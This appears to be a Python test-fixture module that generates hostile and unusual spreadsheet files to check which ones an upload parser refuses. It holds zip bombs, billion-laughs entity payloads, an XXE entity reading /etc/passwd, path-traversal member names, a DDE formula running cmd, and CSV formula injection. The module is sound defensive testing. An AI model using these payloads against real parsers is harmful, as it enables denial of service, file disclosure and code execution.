"""Workbooks made to hurt, and honest ones that look strange: what each of them must get."""

# ruff: noqa: E501  (one file a line reads as a table)

import io
import random
import warnings
import zipfile

import openpyxl

SHEET = "xl/worksheets/sheet1.xml"
HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def honest(rows=3, **more):
    """A small list of units as an office would send it."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = more.get("title", "DS CĐCS")
    sheet.append(["STT", "Tên CĐCS", "Đoàn viên"])
    for number in range(1, rows + 1):
        sheet.append([number, f"CĐCS Công ty số {number}", 40 + number])
    if "change" in more:
        more["change"](book, sheet)
    return saved(book)


def saved(book):
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def repacked(data, *, replace=(), add=(), drop=(), method=zipfile.ZIP_DEFLATED):
    """The zip with parts changed: `replace` maps names to functions of their bytes, `add` are new parts."""
    out = io.BytesIO()
    replace, add = dict(replace), dict(add)
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", method) as new:
        for name in old.namelist():
            if name not in drop:
                content = old.read(name)
                new.writestr(name, replace[name](content) if name in replace else content)
        for name, content in add.items():
            new.writestr(name, content)
    return out.getvalue()


def in_sheet(old, new):
    return repacked(honest(), replace={SHEET: lambda content: content.replace(old.encode(), new.encode())})


def cells(text):
    """An honest workbook with more cells in its sheet, as XML."""
    return in_sheet("</sheetData>", f"{text}</sheetData>")


def sheet_of(text):
    return repacked(honest(), replace={SHEET: lambda content: text.encode()})


def with_part(name, content=b"x"):
    return repacked(honest(), add={name: content})


def zip_of(**parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in parts.items():
            new.writestr(name, content)
    return out.getvalue()


def flag_encrypted(data):
    """The bit that says a member is encrypted, in every header."""
    changed = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = changed.find(mark)
        while place >= 0:
            changed[place + offset] |= 1
            place = changed.find(mark, place + 4)
    return bytes(changed)


def declared_size(data, size):
    """The central directory lies about the size of every member."""
    changed = bytearray(data)
    place = changed.find(b"PK\x01\x02")
    while place >= 0:
        changed[place + 24 : place + 28] = size.to_bytes(4, "little")
        place = changed.find(b"PK\x01\x02", place + 4)
    return bytes(changed)


def laughs(entity):
    lines = [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
    return HEAD + f'<!DOCTYPE x [<!ENTITY l0 "ha">{"".join(lines)}]><{entity} {MAIN}>&l9;</{entity}>'


def many_sheets(count):
    book = openpyxl.Workbook(write_only=True)
    for number in range(count):
        book.create_sheet(f"S{number}").append([number])
    return saved(book)


def duplicate_member():
    out = io.BytesIO(honest())
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "a") as opened:
            opened.writestr(SHEET, b"<worksheet/>")
    return out.getvalue()


def ods(content, mimetype=b"application/vnd.oasis.opendocument.spreadsheet"):
    head = '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    head += 'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    head += 'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:spreadsheet>'
    tail = "</office:spreadsheet></office:body></office:document-content>"
    manifest = '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    parts = {"mimetype": mimetype, "META-INF/manifest.xml": HEAD + manifest}
    return zip_of(**parts, **{"content.xml": HEAD + head + content + tail})


ODS_TABLE = (
    '<table:table table:name="DS"><table:table-row><table:table-cell office:value-type="string"><text:p>Tên CĐCS</text:p>'
    "</table:table-cell></table:table-row></table:table>"
)


def formulas(change):
    return honest(change=lambda book, sheet: change(sheet))


def set_1904(book, sheet):
    from openpyxl.utils.datetime import CALENDAR_MAC_1904

    book.epoch = CALENDAR_MAC_1904


def hide(book, sheet):
    sheet.row_dimensions[3].hidden = True
    sheet.column_dimensions["C"].hidden = True
    book.create_sheet("Ẩn").sheet_state = "hidden"


def merge_titles(book, sheet):
    sheet.insert_rows(1)
    sheet["A1"] = "DANH SÁCH CĐCS"
    sheet.merge_cells("A1:XFD1")


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def corpus():
    """{name: (file name, bytes, "refused" or "read")}, over the families of RELIABILITY T9."""
    random.seed(9)
    bomb = b"<worksheet>" + b" " * (150 * 2**20)
    lie = '<dimension ref="A1:XFD1048576"/>'
    giant = "".join(f'<mergeCell ref="A{n}:XFD{n + 1}"/>' for n in range(1, 400, 2))
    names = "".join(f'<definedName name="n{n}">A1</definedName>' for n in range(60_000))
    styles = "<xf/>" * 300_000
    wide = "".join(f'<c r="{openpyxl.utils.get_column_letter(n)}9"><v>1</v></c>' for n in range(1, 120))
    return {
        # bombs
        "bomb in a sheet": ("a.xlsx", repacked(honest(), replace={SHEET: lambda _: bomb}), "refused"),
        "bomb in shared strings": ("a.xlsx", with_part("xl/sharedStrings2.xml", b"<a>" + b"a" * (120 * 2**20)), "refused"),
        "bomb in a picture": ("a.xlsx", with_part("xl/media/a.png", bytes(130 * 2**20)), "refused"),
        "nested zip": ("a.xlsx", with_part("xl/inner.zip", repacked(honest(), replace={SHEET: lambda _: bomb})), "read"),
        # entities
        "laughs in the sheet": ("a.xlsx", sheet_of(laughs("worksheet")), "refused"),
        "laughs in the workbook": ("a.xlsx", repacked(honest(), replace={"xl/workbook.xml": lambda _: laughs("workbook").encode()}), "refused"),
        "laughs in styles": ("a.xlsx", repacked(honest(), replace={"xl/styles.xml": lambda _: laughs("styleSheet").encode()}), "refused"),
        "laughs in core properties": ("a.xlsx", repacked(honest(), replace={"docProps/core.xml": lambda _: laughs("x").encode()}), "refused"),
        "laughs in UTF-16": ("a.xlsx", repacked(honest(), replace={SHEET: lambda _: laughs("worksheet").replace("UTF-8", "UTF-16").encode("utf-16")}), "refused"),
        "foreign file": ("a.xlsx", sheet_of(f'{HEAD}<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><worksheet {MAIN}>&f;</worksheet>'), "refused"),
        "foreign address": ("a.xlsx", sheet_of(f'{HEAD}<!DOCTYPE x SYSTEM "http://127.0.0.1:1/x.dtd"><worksheet {MAIN}/>'), "refused"),
        "small doctype": ("a.xlsx", sheet_of(f"{HEAD}<!doctype x><worksheet {MAIN}/>"), "refused"),
        "entity in relations": ("a.xlsx", repacked(honest(), replace={"xl/_rels/workbook.xml.rels": lambda c: b'<!DOCTYPE x [<!ENTITY a "b">]>' + c}), "refused"),
        # sizes that lie or go far
        "dimension lie": ("a.xlsx", repacked(honest(), replace={SHEET: lambda c: c.replace(b'<dimension ref="A1:C4"/>', lie.encode()).replace(b'<dimension ref="A1:C4" />', lie.encode())}), "read"),
        "dimension that is none": ("a.xlsx", in_sheet('ref="A1:C4"', 'ref="??"'), "either"),
        "far cell": ("a.xlsx", cells('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), "refused"),
        "far row": ("a.xlsx", cells('<row r="900000"><c r="A900000"><v>1</v></c></row>'), "refused"),
        "far column": ("a.xlsx", cells('<row r="9"><c r="ZZ9"><v>1</v></c></row>'), "refused"),
        "row beyond Excel": ("a.xlsx", cells('<row r="9999999"><c r="A9999999"><v>1</v></c></row>'), "refused"),
        "row zero": ("a.xlsx", cells('<row r="0"><c r="A0"><v>1</v></c></row>'), "either"),
        "row below zero": ("a.xlsx", cells('<row r="-1"><c r="A-1"><v>1</v></c></row>'), "either"),
        "too many columns": ("a.xlsx", cells(f'<row r="9">{wide}</row>'), "refused"),
        "empty styled cells far away": ("a.xlsx", cells('<row r="60000"><c r="XFD60000" s="0"/></row>'), "read"),
        "giant merges": ("a.xlsx", in_sheet("</sheetData>", f'</sheetData><mergeCells count="1">{giant}</mergeCells>'), "read"),
        "one merge over everything": ("a.xlsx", in_sheet("</sheetData>", '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'), "read"),
        "merge that is none": ("a.xlsx", in_sheet("</sheetData>", '</sheetData><mergeCells><mergeCell ref="hello"/></mergeCells>'), "either"),
        # too much of something
        "five thousand sheets": ("a.xlsx", many_sheets(2500), "refused"),
        "sixty sheets": ("a.xlsx", many_sheets(60), "refused"),
        "many names": ("a.xlsx", repacked(honest(), replace={"xl/workbook.xml": lambda c: c.replace(b"</workbook>", f"<definedNames>{names}</definedNames></workbook>".encode())}), "refused"),
        "many styles": ("a.xlsx", repacked(honest(), replace={"xl/styles.xml": lambda c: c.replace(b"</cellXfs>", f"{styles}</cellXfs>".encode())}), "refused"),
        "many rows": ("a.xlsx", honest(rows=20_500), "refused"),
        "long text": ("a.xlsx", honest(change=lambda book, sheet: sheet.append([1, "ơ" * 2500])), "refused"),
        "many parts": ("a.xlsx", repacked(honest(), add={f"xl/media/{n}.txt": b"" for n in range(2100)}), "refused"),
        # zips
        "encrypted members": ("a.xlsx", flag_encrypted(honest()), "refused"),
        "two members of one name": ("a.xlsx", duplicate_member(), "refused"),
        "member above": ("a.xlsx", with_part("../../etc/cron.d/x"), "refused"),
        "member from the root": ("a.xlsx", with_part("/etc/passwd"), "refused"),
        "member of Windows": ("a.xlsx", with_part("..\\..\\x.dll"), "refused"),
        "declared too small": ("a.xlsx", declared_size(honest(), 10), "refused"),
        "declared too large": ("a.xlsx", declared_size(honest(), 2**31), "refused"),
        "cut in half": ("a.xlsx", honest()[: len(honest()) // 2], "refused"),
        "only the signature": ("a.xlsx", b"PK\x03\x04", "refused"),
        "a zip of something else": ("a.xlsx", zip_of(**{"readme.txt": "xin chào"}), "refused"),
        "a Word file": ("a.xlsx", zip_of(**{"word/document.xml": "<w/>", "[Content_Types].xml": "<Types/>"}), "refused"),
        "xlsb renamed": ("a.xlsx", zip_of(**{"xl/workbook.bin": b"\x00", "[Content_Types].xml": "<Types/>"}), "refused"),
        "stored, not packed": ("a.xlsx", repacked(honest(), method=zipfile.ZIP_STORED), "read"),
        # things that act
        "macros": ("a.xlsm", with_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0macro"), "read"),
        "external links": ("a.xlsx", with_part("xl/externalLinks/externalLink1.xml", b"<externalLink/>"), "read"),
        "data connections": ("a.xlsx", with_part("xl/connections.xml", b"<connections/>"), "read"),
        "embedded object": ("a.xlsx", with_part("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"), "read"),
        "ActiveX": ("a.xlsx", with_part("xl/activeX/activeX1.bin"), "read"),
        "DDE formula": ("a.xlsx", formulas(lambda sheet: sheet.append([1, "=cmd|'/c calc'!A1"])), "read"),
        "HYPERLINK formula": ("a.xlsx", formulas(lambda sheet: sheet.append([1, '=HYPERLINK("http://x/"&A2)'])), "read"),
        "text that begins as a formula": ("a.csv", "Tên CĐCS\n=1+1\n@SUM(1)\n".encode(), "read"),
        # old and other formats
        "locked workbook": ("a.xlsx", OLE + "EncryptedPackage".encode("utf-16-le") + bytes(5000), "refused"),
        "an .xls that is none": ("a.xls", OLE + bytes(5000), "refused"),
        "an .xls cut off": ("a.xls", OLE, "refused"),
        "a web page as .xls": ("a.xls", b"<html><table><tr><td>1</td></tr></table></html>", "refused"),
        "XML as .xls": ("a.xls", b'<?xml version="1.0"?><Workbook/>', "refused"),
        "a picture": ("a.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(200), "refused"),
        "a PDF": ("a.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(300), "refused"),
        "nothing": ("a.xlsx", b"", "refused"),
        "spaces": ("a.csv", b"   \n  \n", "refused"),
        "NUL in text": ("a.csv", b"a,b\x00c\n", "refused"),
        "an honest .ods": ("a.ods", ods(ODS_TABLE), "read"),
        "laughs in .ods": ("a.ods", zip_of(**{"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": laughs("x")}), "refused"),
        "repeated cells in .ods": ("a.ods", ods(ODS_TABLE.replace("<table:table-cell", '<table:table-cell table:number-columns-repeated="1638400"')), "refused"),
        "a long line of quotes": ("a.csv", b'"' * 200_000, "either"),
        "many columns in .csv": ("a.csv", b"a," * 100 + b"\n", "refused"),
        # strange but honest
        "calendar of 1904": ("a.xlsx", honest(change=set_1904), "read"),
        "hidden things": ("a.xlsx", honest(change=hide), "read"),
        "title over every column": ("a.xlsx", honest(change=merge_titles), "read"),
        "numbers as text": ("a.xlsx", honest(change=lambda book, sheet: sheet.append(["'1", "CĐCS", "1.500"])), "read"),
        "an emoji and an old letter": ("a.xlsx", honest(change=lambda book, sheet: sheet.append([1, "CĐCS 🌸 \u202eabc", 2])), "read"),
        "UTF-16 .csv": ("a.csv", "Tên CĐCS;Đoàn viên\nCĐCS Mai;12\n".encode("utf-16"), "read"),
    }  # fmt: skip


def mutants(count):
    """Honest and hostile files with bytes, parts or XML bent at random."""
    chance = random.Random(2026)
    seeds = [honest(), honest(change=hide), many_sheets(3), ods(ODS_TABLE)]
    for number in range(count):
        data = seeds[number % len(seeds)]
        yield (_bent_bytes, _bent_part, _bent_xml)[number % 3](data, chance)


def _bent_bytes(data, chance):
    changed = bytearray(data)
    for _ in range(chance.randint(1, 40)):
        changed[chance.randrange(len(changed))] = chance.randrange(256)
    return bytes(changed[: chance.randint(len(changed) // 2, len(changed))])


def _bent_part(data, chance):
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    name = chance.choice(names)
    if chance.random() < 0.5:
        return repacked(data, drop=[name])
    return repacked(data, replace={name: lambda _: chance.randbytes(chance.randint(0, 3000))})


def _bent_xml(data, chance):
    names = [name for name in zipfile.ZipFile(io.BytesIO(data)).namelist() if name.endswith(".xml")]

    def bend(content):
        text = content.decode("utf-8", "replace")
        for _ in range(chance.randint(1, 6)):
            place = chance.randrange(max(1, len(text)))
            piece = chance.choice(
                ['"', "<", "</", "&", "]]>", 'r="ZZ1"', "9" * 20, "<c>", "\u0000", text[place : place + 40]]
            )
            text = text[:place] + piece + text[place + chance.randint(0, 10) :]
        return text.encode("utf-8", "replace")

    return repacked(data, replace={chance.choice(names): bend})
